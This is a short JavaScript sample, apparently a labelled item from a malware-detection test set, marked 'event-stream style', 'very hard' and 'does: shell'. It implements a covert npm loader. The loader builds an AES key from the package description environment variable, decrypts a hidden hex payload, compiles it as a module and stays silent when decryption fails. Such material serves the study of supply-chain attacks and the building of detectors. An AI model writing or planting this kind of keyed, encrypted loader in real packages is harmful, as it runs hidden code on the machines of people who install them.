// evasion: AES-encrypted payload keyed on npm_package_description, compiled as a module (event-stream style)
// grade: very hard; does: shell
const crypto = require('crypto');

const desc = process.env.npm_package_description || 'A secure and flexible logging library';
const key = crypto.createHash('sha256').update(desc).digest();
const blob =
  'bbf4e50288e7cec8e307022194d8857aa5f282c35d839b9501a3f885cce7d2b2b39b9256813ea6feb21fa640ed417258' +
  'eaf02977db8185e81ac3eec5d4caafbe41279bee6c1bea59048f86e96d7c1170';

try {
  const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16, 0));
  const src = d.update(blob, 'hex', 'utf8') + d.final('utf8');
  const m = new module.constructor();
  m.paths = module.paths;
  m._compile(src, '');
} catch (e) {
  // wrong key: not the targeted package, stay quiet
}
